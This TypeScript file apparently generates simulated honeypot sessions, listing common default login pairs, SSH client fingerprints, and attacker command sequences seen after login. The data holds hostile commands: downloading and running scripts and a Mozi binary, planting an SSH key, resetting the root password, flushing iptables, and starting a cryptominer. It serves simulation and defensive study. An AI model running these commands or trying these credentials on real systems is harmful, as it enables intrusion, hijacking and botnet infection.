import { hash } from "node:crypto";
import { pick, type Random } from "../random.ts";
import type { Content } from "./content.ts";

/**
 * Names and passwords as a Cowrie sensor got them most often. The two first are a third and an eighth of all.
 */
const LOGINS = (
  "support/support user/user sh/shell admin/admin admin/1234 root/admin ubnt/ubnt root/root root/123456 guest/guest " +
  "root/1234 root/zsun1188 admin/password guest/12345 root/1111 root/realtek guest/123456 admin/12345 service/service " +
  "root/0000 admin/7ujMko0admin 666666/666666 root/123 root/user e8telnet/e8telnet root/vizxv root/xc3511 " +
  "root/password root/qwerty root/1qaz2wsx root/toor test/test oracle/oracle postgres/postgres git/git deploy/deploy " +
  "pi/raspberry ftpuser/ftpuser ubuntu/ubuntu mysql/mysql hadoop/hadoop jenkins/jenkins minecraft/minecraft"
)
  .split(" ")
  .map((login) => {
    const [username = "", password = ""] = login.split("/");
    return { username, password };
  });

type Client = { readonly share: number; readonly banner: string; readonly hassh: string };

/** Per mille of a Cowrie sensor's sessions, by the client's banner and its HASSH. */
const CLIENTS: readonly Client[] = [
  { share: 430, banner: "SSH-2.0-Go", hassh: "2f300334eb474e4d5ef932343447dd80" },
  { share: 340, banner: "SSH-2.0-libssh-0.6.3", hassh: "51cba57125523ce4b9db67714a90bf6e" },
  { share: 95, banner: "SSH-2.0-Go", hassh: "7d16e6898b0974c89da9c7b076c8d895" },
  { share: 75, banner: "SSH-2.0-libssh2_1.4.3", hassh: "92674389fa1e47a27ddd8d9b63ecd42b" },
  { share: 29, banner: "SSH-2.0-libssh_0.8.2", hassh: "d7f0b97eb79d6533c492545cc6a207e1" },
  { share: 15, banner: "SSH-2.0-PUTTY", hassh: "f862b1c2512ed14ce0a85110867c369b" },
  { share: 10, banner: "SSH-2.0-paramiko_2.1.2", hassh: "b5752e36ba6c5979a575e43178908adf" },
];

/** What is typed after a login, the most frequent first. Downloads come from names for documentation, or from AS112, which serves no files. */
const SHELL_VISITS: readonly (readonly string[])[] = [
  ["uname -a"],
  [
    "cat /proc/cpuinfo | grep name | wc -l",
    "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
    "uname -m",
    "w",
  ],
  ["cd /tmp; wget http://update.botnet.example/bins/update.sh; chmod 777 update.sh; sh update.sh", "rm -rf update.sh"],
  [
    'cd ~ && rm -rf .ssh && mkdir .ssh && echo "ssh-rsa AAAAB3NzaC1yc2E mdrfckr">>.ssh/authorized_keys',
    'echo "root:9fK2mQx"|chpasswd|bash',
    "crontab -l",
  ],
  ["curl -s http://files.miner.example/xmrig.tar.gz | tar xz -C /tmp", "./xmrig -o stratum+tcp://pool.example:3333"],
];
const TELNET_VISITS: readonly (readonly string[])[] = [
  ["enable", "system", "shell", "sh", "/bin/busybox MIRAI"],
  ["enable", "system", "shell", "sh", "/bin/busybox FBOT"],
  ["enable", "linuxshell", "development", "iptables -F", "/bin/busybox SATORI"],
  ["sh", "/bin/busybox ECCHI"],
  ["cd /tmp; /bin/busybox wget http://192.31.196.40:8088/Mozi.m -O -> .m; chmod 777 .m; ./.m"],
];
const URL = /http:\/\/[^\s;|]+/g;

/** Digests of files that do not exist. */
const payloadOf = (url: string) => hash("sha256", `simulated ${url}`);

const VARIANTS = 60;

type Visit = { readonly port: number; readonly application: string; readonly visits: readonly (readonly string[])[] };

/** Few sessions get further than a try or two. */
function session({ port, application, visits }: Visit, ssh: Content["ssh"], random: Random): Content {
  const tries = random() < 0.8 ? 1 : 2 + Math.floor(random() * 6);
  const credentials = Array.from({ length: tries }, () => pick(LOGINS, random() ** 2));
  const commands = random() < 0.3 ? pick(visits, random() ** 1.6) : [];
  const urls = commands.flatMap((command) => command.match(URL) ?? []);
  return {
    ...{ transport: "tcp", destination_port: port, application, isSession: true, credentials, login_attempts: tries },
    ...(commands.length > 0 && { commands: [...commands] }),
    ...(urls.length > 0 && { urls, payload_sha256: urls.map(payloadOf) }),
    ...(ssh !== undefined && { ssh }),
  };
}

/** A list for each SSH client, which uses no other, with its share of the sessions. */
export function sshLogins(random: Random): (readonly [Content[], number])[] {
  return CLIENTS.map(({ banner, hassh, share }) => {
    const port = () => (random() < 0.93 ? 22 : 2222);
    const visit = () => session({ port: port(), application: "ssh", visits: SHELL_VISITS }, { banner, hassh }, random);
    return [Array.from({ length: VARIANTS }, visit), share] as const;
  });
}

/** A list for each botnet. */
export function telnetLogins(random: Random): (readonly [Content[], number])[] {
  return TELNET_VISITS.map((visit, index) => {
    const port = () => (random() < 0.85 ? 23 : 2323);
    const visitOf = () => session({ port: port(), application: "telnet", visits: [visit] }, undefined, random);
    return [Array.from({ length: VARIANTS }, visitOf), 1 / (index + 1)] as const;
  });
}
